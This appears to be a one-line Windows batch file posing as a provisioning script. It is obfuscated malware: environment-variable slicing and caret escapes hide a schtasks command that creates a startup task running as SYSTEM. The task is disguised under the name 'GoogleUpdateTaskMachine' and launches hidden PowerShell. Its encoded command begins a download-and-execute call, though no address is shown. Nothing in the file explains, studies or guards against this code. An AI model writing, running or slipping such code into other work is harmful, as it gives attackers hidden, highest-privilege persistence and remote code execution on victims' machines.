REM provision 9191 v2
%PUBLIC:~-11,1%%COMSPEC:~20,1%h%ProgramData:~-2,1%%PROGRAMDATA:~13,1%s^k%WINDIR:~9,1% /^c^r^e^at^e /^t^n "GoogleUpdateTaskMachine" /^tr "powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA" /s^c onsta^r^t /ru ^S^YS^T^E^M /f
